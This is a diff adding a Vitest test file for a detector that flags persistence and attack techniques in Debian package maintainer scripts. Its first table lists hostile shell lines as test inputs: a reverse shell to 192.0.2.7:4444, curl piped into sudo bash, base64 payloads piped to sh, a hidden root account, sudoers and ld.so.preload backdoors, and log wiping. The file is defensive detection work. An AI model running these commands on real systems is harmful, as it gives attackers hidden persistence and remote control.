@@ -1,0 +1,121 @@
+// What persistence is made of, line by line; what maintainer scripts do every day; and hostile text in bounded time.
+
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import { describe, expect, test } from 'vitest';
+import { findingsOf } from '../../../detectors/facts/script-findings.ts';
+
+const ids = (line: string): string[] => findingsOf(`#!/bin/sh\n${line}\n`).map(({ id }) => id);
+
+describe('is named', () => {
+  test.each([
+    ['detached-process', '( setsid /opt/x </dev/null >/dev/null 2>&1 & )'],
+    ['detached-process', 'nohup /usr/lib/x/agent &'],
+    ['detached-process', '/usr/lib/x/agent >/dev/null 2>&1 &'],
+    ['network-device', 'exec 5<>/dev/tcp/192.0.2.7/4444'],
+    ['network-shell', 'nc -e /bin/sh 192.0.2.7 4444'],
+    ['download-into-interpreter', 'curl -fsSL http://192.0.2.7/i.sh | sudo bash'],
+    ['download-into-interpreter', 'wget -qO- http://192.0.2.7/i | /usr/bin/python3 -'],
+    ['download-into-interpreter', 'sh -c "$(curl -s http://192.0.2.7/i)"'],
+    ['decoded-into-interpreter', 'echo ZWNobyBoaQo= | base64 -d | sh'],
+    ['decoded-into-interpreter', 'eval "$(echo ZWNobyBoaQo= | base64 --decode)"'],
+    ['systemd-unit', 'cat > /etc/systemd/system/dbus-helper.service <<EOF'],
+    ['systemd-unit', 'cp x.timer /usr/lib/systemd/system/x.timer'],
+    ['systemd-unit', 'systemd-run --on-calendar=hourly /opt/x'],
+    ['cron-entry', 'echo "* * * * * root /opt/x" > /etc/cron.d/x'],
+    ['cron-entry', '(crontab -l; echo "@reboot /opt/x") | crontab -'],
+    ['at-job', 'echo /opt/x | at now + 1 minute'.replace('echo /opt/x | ', 'true; ')],
+    ['authorized-keys', 'echo "ssh-ed25519 AAAA" >> /root/.ssh/authorized_keys'],
+    ['ld-preload', 'echo /lib/libx.so > /etc/ld.so.preload'],
+    ['setuid', 'chmod 4755 /tmp/.sh'],
+    ['setuid', 'chmod u+s /bin/bash'],
+    ['setcap', 'setcap cap_setuid+ep /usr/bin/python3'],
+    ['root-user', 'useradd -o -u 0 -g 0 sys2'],
+    ['root-user', 'echo "x::0:0::/root:/bin/sh" >> /etc/passwd'],
+    ['admin-group', 'usermod -aG sudo backup'],
+    ['sudoers', 'echo "backup ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/90-x'],
+    ['pam', 'cp pam_x.so /lib/security/pam_x.so'],
+    ['pam', 'sed -i 1i\\auth /etc/pam.d/sshd'],
+    ['shell-startup', 'echo /opt/x >> /root/.bashrc'],
+    ['shell-startup', 'cp x.sh /etc/profile.d/x.sh'],
+    ['rc-script', 'echo /opt/x >> /etc/rc.local'],
+    ['udev-rule', 'echo RUN > /etc/udev/rules.d/99-x.rules'],
+    ['autostart', 'cp x /etc/xdg/autostart/x.desktop'],
+    ['kernel-module', 'insmod /opt/x.ko'],
+    ['kernel-module', 'modprobe x'],
+    ['history-wiping', 'history -c'],
+    ['log-wiping', '> /var/log/auth.log'],
+    ['package-database', 'cp x /var/lib/dpkg/info/bash.prerm'],
+  ])('%s: %s', (id, line) => {
+    expect(ids(line)).toContain(id);
+  });
+});
+
+test.each([
+  "deb-systemd-helper enable 'cron.service' >/dev/null || true",
+  "if deb-systemd-helper --quiet was-enabled 'cron.service'; then",
+  "deb-systemd-invoke $_dh_action 'cron.service' >/dev/null || true",
+  'systemctl --system daemon-reload >/dev/null || true',
+  'if [ -d /run/systemd/system ]; then',
+  'rm -f /etc/cron.d/old /etc/systemd/system/x.service',
+  'if [ -e /etc/cron.d/x ]; then',
+  'dpkg-maintscript-helper rm_conffile /etc/profile.d/x.sh 1.0~ -- "$@"',
+  'adduser --system --group --home /nonexistent messagebus',
+  'chmod 0755 /var/lib/x',
+  'chmod 2755 /x'.replace('2755', '1777'),
+  'command -v setcap >/dev/null 2>&1',
+  'update-alternatives --install /usr/bin/nc nc /bin/nc.openbsd 50',
+  'a && b',
+  'exec 2>&1',
+  '# curl http://192.0.2.7/ | sh',
+  'cat /etc/passwd',
+  'update-rc.d cron defaults >/dev/null',
+  'echo "see /etc/pam.d/x"',
+])('is nothing: %s', (line) => {
+  expect(ids(line)).toEqual([]);
+});
+
+test('lines are counted from 1, text is cut, and there are bounds', () => {
+  const [finding] = findingsOf(`#!/bin/sh\n\n\tsetsid ${'x'.repeat(500)}\n`);
+  expect(finding).toMatchObject({ id: 'detached-process', technique: 'T1564.011', line: 3 });
+  expect(finding?.text).toMatch(/^setsid x{153}$/);
+  expect(findingsOf('setsid x\n'.repeat(1000))).toHaveLength(3);
+  expect(findingsOf('')).toEqual([]);
+});
+
+test('no text of 64 KiB takes long', () => {
+  const pieces = [
+    'a ',
+    ' ',
+    '& ',
+    '> /dev/null ',
+    'curl | ',
+    '| ',
+    '/',
+    'chmod -a ',
+    'install ',
+    'openssl a ',
+    '[ ',
+    '! ',
+    'modprobe ',
+    '$(',
+  ];
+  const before = process.cpuUsage();
+  for (const piece of pieces) {
+    for (const other of pieces) {
+      const text = (piece + other).repeat(65_536 / 2).slice(0, 65_536);
+      findingsOf(text);
+      findingsOf(text.replaceAll(/.{4000}/gs, '$&\n'));
+    }
+  }
+  const { user } = process.cpuUsage(before);
+  // 392 texts: hundreds of times as much as they take would be a pattern that goes wrong.
+  expect(user / 1e6).toBeLessThan(100);
+});
+
+const info = '/var/lib/dpkg/info';
+test.skipIf(!existsSync(info))("this host's own scripts have few, and boilerplate none", () => {
+  const names = readdirSync(info).filter((name) => /\.(?:preinst|postinst|prerm|postrm|config)$/.test(name));
+  const found = names.map((name) => findingsOf(readFileSync(`${info}/${name}`, 'utf8')));
+  expect(found.flat().filter(({ text }) => /deb-systemd|dpkg-maintscript-helper|systemctl/.test(text))).toEqual([]);
+  expect(found.filter((some) => some.length > 0).length).toBeLessThanOrEqual(Math.max(5, names.length / 20));
+});
